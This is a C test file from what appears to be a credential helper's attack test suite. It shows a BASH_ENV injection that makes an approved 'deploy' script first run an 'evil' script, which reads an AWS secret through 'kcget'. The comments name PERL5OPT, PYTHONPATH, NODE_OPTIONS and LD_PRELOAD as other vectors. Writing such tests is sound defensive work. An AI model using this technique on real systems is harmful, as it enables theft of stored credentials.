/* SPDX-License-Identifier: MIT */
/*
 * attack: runs an approved script, and has its interpreter begin with other code
 * expects: released
 * control: none
 * kind: residual
 * removed-by: confirmation, system mode
 * cost: -
 * needs: first-process
 *
 * Here by BASH_ENV; PERL5OPT, PYTHONPATH and NODE_OPTIONS do it elsewhere, and LD_PRELOAD
 * everywhere: the memory of the processes above a helper isn't looked at.
 */
#include "tests/attacks/support/attack.h"
#include "tests/attacks/support/attack_orphan.h"

#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void write_script(const char *path, const char *text) {
    FILE *file = fopen(path, "w");
    if (file == NULL || fputs(text, file) == EOF || fclose(file) != 0 || chmod(path, 0700) != 0) {
        attack_die(path);
    }
}

static void live(void) {
    const char *const call[] = {"./deploy", NULL};
    if (setenv("BASH_ENV", "./evil", 1) != 0) {
        attack_die("BASH_ENV");
    }
    attack_execute(call);
}

int main(void) {
    const char *const approve[] = {"keychain-auth", "register",       "deploy", "--read",
                                   "aws",           "--session-root", NULL};
    if (chdir(attack_variable("HOME")) != 0) {
        attack_die("HOME");
    }
    write_script("deploy", "#!/bin/bash\n:\n");
    write_script("evil", "kcget aws prize\n");
    attack_as_the_user(approve);
    attack_from_an_orphan(live);
}
